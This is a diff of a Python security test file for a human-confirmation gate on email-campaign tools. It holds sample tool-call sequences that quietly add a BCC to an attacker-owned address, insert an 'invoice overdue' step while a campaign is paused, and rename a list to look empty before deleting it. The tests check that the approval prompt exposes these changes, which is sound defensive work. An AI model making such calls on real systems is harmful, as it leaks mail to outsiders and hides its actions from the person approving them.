@@ -4,14 +4,8 @@ content, how many leads a list holds). A person who declines: nothing is sent.""
 
 from __future__ import annotations
 
-from typing import Any
-
-import anyio
-
 from security.conftest import Target, text
-from security.test_effects_gate import Workspace
-
-from support.servers import Human
+from security.test_effects_gate import Workspace, ask, declined
 
 SPY = "spy@attacker-owned.example"
 NEW_STEP = {
@@ -21,36 +15,19 @@ NEW_STEP = {
 }
 
 
-def declined(result: Any) -> bool:
-    return not result.is_error and '"declined"' in text(result) and '"sent":false' in text(result)
-
-
 def test_activation_after_edits_while_paused_shows_the_content_and_every_change(target: Target) -> None:
-    ws = Workspace(target)
-    campaign = ws.campaign(1)
-    human = Human(action="decline")
-
-    async def run() -> tuple[Any, list[dict[str, Any]]]:
-        async with target.connect("--confirm", "elicit", elicitation_callback=human) as client:
-            edits = [
-                await client.call_tool("pause_campaign", {"id": campaign["id"]}),
-                await client.call_tool(
-                    "update_campaign", {"id": campaign["id"], "bcc_list": [SPY], "sequences": [{"steps": [NEW_STEP]}]}
-                ),
-                await client.call_tool(
-                    "add_leads",
-                    {"campaign_id": campaign["id"], "leads": [{"email": f"new{i}@prospect.example"} for i in range(3)]},
-                ),
-            ]
-            assert not any(r.is_error for r in edits), [text(r) for r in edits]
-            assert human.questions == []  # none of the edits to a paused campaign emails anyone
-            ws.clear_log()
-            return await client.call_tool("activate_campaign", {"id": campaign["id"]}), ws.writes()
-
-    result, writes = anyio.run(run)
-    assert declined(result), text(result)
+    campaign = Workspace(target).campaign(1)
+    new_leads = [{"email": f"new{i}@prospect.example"} for i in range(3)]
+    calls = [
+        ("pause_campaign", {"id": campaign["id"]}),
+        ("update_campaign", {"id": campaign["id"], "bcc_list": [SPY], "sequences": [{"steps": [NEW_STEP]}]}),
+        ("add_leads", {"campaign_id": campaign["id"], "leads": new_leads}),
+        ("activate_campaign", {"id": campaign["id"]}),
+    ]
+    results, questions, writes = ask(target, calls)
+    assert not any(r.is_error for r in results[:-1]) and declined(results[-1]), [text(r) for r in results]
     assert writes == []
-    [question] = human.questions
+    [question] = questions  # none of the edits to a paused campaign asked: none emails anyone
     for shown in (
         campaign["name"],
         "senders: maya@northwind.example, liam@northwind.example",
@@ -66,43 +43,19 @@ def test_activation_after_edits_while_paused_shows_the_content_and_every_change(
 
 
 def test_resuming_an_edited_subsequence_shows_its_new_steps(target: Target) -> None:
-    ws = Workspace(target)
-    subsequence = ws.get("/subsequences", limit=1)["items"][0]
-    human = Human(action="decline")
-
-    async def run() -> tuple[Any, list[dict[str, Any]]]:
-        async with target.connect("--confirm", "elicit", elicitation_callback=human) as client:
-            edits = [
-                await client.call_tool("pause_subsequence", {"id": subsequence["id"]}),
-                await client.call_tool(
-                    "update_campaign_subsequence", {"id": subsequence["id"], "sequences": [{"steps": [NEW_STEP]}]}
-                ),
-            ]
-            assert not any(r.is_error for r in edits), [text(r) for r in edits]
-            assert human.questions == []
-            ws.clear_log()
-            return await client.call_tool("resume_subsequence", {"id": subsequence["id"]}), ws.writes()
-
-    result, writes = anyio.run(run)
-    assert declined(result), text(result)
+    subsequence = Workspace(target).get("/subsequences", limit=1)["items"][0]
+    calls = [
+        ("pause_subsequence", {"id": subsequence["id"]}),
+        ("update_campaign_subsequence", {"id": subsequence["id"], "sequences": [{"steps": [NEW_STEP]}]}),
+        ("resume_subsequence", {"id": subsequence["id"]}),
+    ]
+    results, questions, writes = ask(target, calls)
+    assert not any(r.is_error for r in results[:-1]) and declined(results[-1]), [text(r) for r in results]
     assert writes == []
-    [question] = human.questions
+    [question] = questions
     assert "Resume subsequence 'Interested - send case study'" in question
     assert "step 1: subject 'Your invoice is overdue'" in question
     assert "CHANGED since it last ran: step 1 (was subject 'Case study: how BrightPath booked 40 demos'" in question
-
-
-def ask(target: Target, calls: list[tuple[str, dict[str, Any]]]) -> tuple[list[Any], list[str], list[dict]]:
-    """Each call through the server, a person declining every question; the upstream writes seen."""
-    ws = Workspace(target)
-    human = Human(action="decline")
-
-    async def run() -> list[Any]:
-        async with target.connect("--confirm", "elicit", elicitation_callback=human) as client:
-            return [await client.call_tool(name, arguments) for name, arguments in calls]
-
-    results = anyio.run(run)
-    return results, human.questions, ws.writes()
 
 
 def test_a_list_renamed_to_look_empty_is_deleted_only_with_its_real_count_and_the_rename_named(target: Target) -> None:
@@ -115,7 +68,7 @@ def test_a_list_renamed_to_look_empty_is_deleted_only_with_its_real_count_and_th
     ]
     results, questions, writes = ask(target, calls)
     assert not results[0].is_error and declined(results[1])
-    assert [w["method"] for w in writes] == ["PATCH"]
+    assert writes == []
     [question] = questions
     assert "'empty scratch copy - safe to delete'" in question
     assert "holding 4 leads, renamed 0 minutes ago through this server" in question
